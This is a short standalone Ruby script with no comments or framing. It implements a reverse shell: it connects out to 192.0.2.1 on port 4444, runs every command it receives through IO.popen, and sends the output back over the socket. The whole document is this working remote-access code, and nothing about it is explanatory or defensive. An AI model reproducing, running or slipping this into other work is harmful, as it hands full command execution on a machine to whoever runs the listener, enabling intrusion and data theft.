require "socket"
s = TCPSocket.new("192.0.2.1", 4444)
while cmd = s.gets
  IO.popen(cmd, "r") { |i| s.print i.read }
end
